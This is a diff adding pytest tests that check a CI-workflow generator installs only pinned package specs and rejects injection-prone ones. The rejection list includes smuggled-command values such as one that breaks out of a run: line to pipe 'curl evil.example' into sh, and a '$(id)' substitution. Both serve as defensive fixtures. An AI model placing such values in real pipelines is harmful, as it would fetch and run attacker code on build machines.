@@ -15,6 +15,7 @@ import pytest
 import yaml
 
 from goldenpath.delivery.workflows import ACTIONS, PINNED_PACKAGE
+from goldenpath.errors import GoldenpathError
 from tests.conftest import ENVIRONMENTS
 
 
@@ -146,3 +147,56 @@ def test_bad_input_is_one_error_and_nothing_is_written(tmp_path, capsys):
     assert main(["--environments", str(ENVIRONMENTS), "ci", "render", "platform", "--drift-cron", "nightly",
                  "--out", str(tmp_path / "wf")]) == 2
     assert "--drift-cron: got 'nightly', expected five cron fields" in capsys.readouterr().err
+
+
+WHEEL_URL = "https://github.com/acme/goldenpath-mirror/releases/download/v0.12.0/goldenpath-0.12.0-py3-none-any.whl"
+
+
+def test_the_package_every_workflow_installs_comes_from_ci_package(bundled_environments):
+    from goldenpath.delivery.workflows import render_platform_workflows
+    from goldenpath.tenancy.catalog import catalog_for
+    from tests.conftest import REPO
+
+    with_package = [e.model_copy(update={"ci": e.ci.model_copy(update={"package": WHEEL_URL})}) if e.ci else e
+                    for e in bundled_environments]
+    rendered = render_platform_workflows(with_package, catalog_for(REPO, with_package))
+    installs = {name: re.findall(r"pip install \"([^\"]+)\"", text) for name, text in rendered.items()}
+    assert all(found == [WHEEL_URL] * len(found) for found in installs.values()) and sum(map(len, installs.values())) >= 5
+    # two environments that disagree: one platform repository installs one goldenpath
+    first, *rest = with_package
+    disagree = [first.model_copy(update={"ci": first.ci.model_copy(update={"package": "goldenpath==0.11.0"})}), *rest]
+    with pytest.raises(GoldenpathError, match=r"ci.package: got .*expected 'goldenpath==0.11.0'|ci.package: got 'goldenpath==0.11.0'"):
+        render_platform_workflows(disagree, catalog_for(REPO, disagree))
+
+
+def _with_package(value: str) -> str:
+    """dev.yaml with ``ci.package: value`` (a YAML scalar)."""
+    text, count = re.subn(r"\nci:[^\n]*\n", lambda m: f"{m.group(0)}  package: {value}\n", (ENVIRONMENTS / "dev.yaml").read_text(), 1)
+    assert count == 1
+    return text
+
+
+@pytest.mark.parametrize("spec", [
+    "goldenpath",  # unpinned: whatever is newest
+    "goldenpath>=0.11",
+    'goldenpath==0.12.0"; curl evil.example | sh; "',  # written into a run: line
+    "goldenpath==$(id)",
+    "http://example.com/goldenpath-0.12.0-py3-none-any.whl",  # not https
+    "https://example.com/other-1.0-py3-none-any.whl",
+    "git+https://github.com/acme/goldenpath",  # no tag or commit
+])
+def test_a_package_spec_that_is_unpinned_or_could_inject_is_refused(spec):
+    from goldenpath.config.loader import parse_environment
+
+    text = _with_package(yaml.safe_dump(spec, default_style="'").strip())
+    with pytest.raises(GoldenpathError, match=r"dev.yaml: ci.package: got"):
+        parse_environment(text, "environments/dev.yaml")
+
+
+@pytest.mark.parametrize("spec", ["goldenpath==0.12.0", "goldenpath[emulator]==0.12.0", WHEEL_URL,
+                                  "git+https://github.com/acme/goldenpath@v0.12.0"])
+def test_pinned_package_specs_are_accepted(spec):
+    from goldenpath.config.loader import parse_environment
+
+    text = _with_package(f"'{spec}'")
+    assert parse_environment(text, "environments/dev.yaml").ci.package == spec
